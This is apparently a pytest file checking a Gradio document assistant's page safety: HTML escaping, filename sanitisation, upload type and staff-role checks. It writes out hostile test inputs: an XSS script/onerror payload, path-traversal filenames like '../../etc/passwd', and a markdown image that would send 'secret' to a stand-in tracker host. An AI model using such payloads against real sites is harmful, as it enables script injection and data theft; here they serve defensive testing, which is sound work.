"""Page safety and server-side role checks of the Gradio handlers, without a browser."""

from __future__ import annotations

import gradio as gr
import pytest

from assistant.api import DocumentActions, UploadRejected, sanitise_filename
from assistant.auth import Accounts, hash_password
from assistant.feedback import FeedbackStore
from assistant.ui import answer_markdown, build_ui, example_questions, render_sources

PAYLOAD = '<script>window.__xss=1</script><img src=x onerror="window.__xss=2">'


def test_sources_panel_escapes_document_text():
    answer = {"note": PAYLOAD, "citations": [{"n": 1, "doc_id": "d", "title": PAYLOAD, "source": "a.md", "page": 3,
                                               "section": "Intro <b onmouseover=alert(1)>", "quote": PAYLOAD}]}
    html = render_sources(answer)
    tags = _tags(html)
    assert not {t for t, _ in tags} & {"script", "img", "b"}
    assert not [a for _, attrs in tags for a, _ in attrs if a.startswith("on")]
    assert "&lt;script&gt;" in html  # shown as text, not dropped
    assert 'id="source-1"' in html and "Page 3" in html and "Section: Intro" in html


def _tags(html: str) -> list[tuple[str, list]]:
    """Every element the browser would build from this HTML, with its attributes."""
    from html.parser import HTMLParser

    found: list[tuple[str, list]] = []

    class Collect(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, attrs))

    Collect().feed(html)
    return found


def test_answer_text_is_escaped_before_markdown():
    assert answer_markdown(PAYLOAD).startswith("&lt;script&gt;")
    assert _tags(answer_markdown(PAYLOAD)) == []
    assert answer_markdown("Cited [1].") == "Cited [1]."


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\x\\report.pdf", "report.pdf"),
        (".hidden.md", "hidden.md"),
        ("my report (final).docx", "my report (final).docx"),
        ("na<me>|?.txt", "na_me_.txt"),
        ("", "upload"),
        ("..", "upload"),
    ],
)
def test_sanitise_filename(raw, clean):
    assert sanitise_filename(raw) == clean


def test_upload_type_is_checked_on_the_server(corpus_services):
    actions = DocumentActions(corpus_services)
    assert actions.check_name("../a/Report.PDF") == "Report.PDF"
    with pytest.raises(UploadRejected, match="file type not accepted") as info:
        actions.check_name("payload.html.exe")
    assert info.value.http_status == 415


def test_examples_come_from_the_corpus(corpus_services):
    questions = example_questions(corpus_services)
    assert 1 <= len(questions) <= 4 and all(q.startswith("What do the documents say about") for q in questions)


def _handler(demo: gr.Blocks, name: str):
    return next(f.fn for f in demo.fns.values() if getattr(f, "name", None) == name)


def test_document_handlers_check_the_role_on_the_server(corpus_services, tmp_path):
    accounts = Accounts({"rita": ("reader", hash_password("x", rounds=4)), "sam": ("staff", hash_password("y", rounds=4))})
    demo = build_ui(corpus_services, accounts, DocumentActions(corpus_services), FeedbackStore(tmp_path / "f.sqlite"))
    reader = gr.Request(username="rita")
    before = len(corpus_services.store.list_documents())
    doc_id = corpus_services.store.list_documents()[0].doc_id
    with pytest.raises(gr.Error, match="Only staff"):
        _handler(demo, "delete")(doc_id, reader)
    with pytest.raises(gr.Error, match="Only staff"):
        next(_handler(demo, "upload")([str(tmp_path / "x.md")], reader))
    with pytest.raises(gr.Error, match="Only staff"):
        _handler(demo, "reindex")(reader)
    with pytest.raises(gr.Error, match="Only staff"):
        _handler(demo, "delete")(doc_id, gr.Request(username="stranger"))
    assert len(corpus_services.store.list_documents()) == before
    tab, *_ = _handler(demo, "on_load")(reader)
    assert tab.visible is False
    tab, *_ = _handler(demo, "on_load")(gr.Request(username="sam"))
    assert tab.visible is True


def test_markdown_images_in_answers_cannot_fetch_remote_urls():
    rendered = answer_markdown("See ![chart](https://tracker.example/?q=secret) [1].")
    assert "![" not in rendered and "!\\[" in rendered
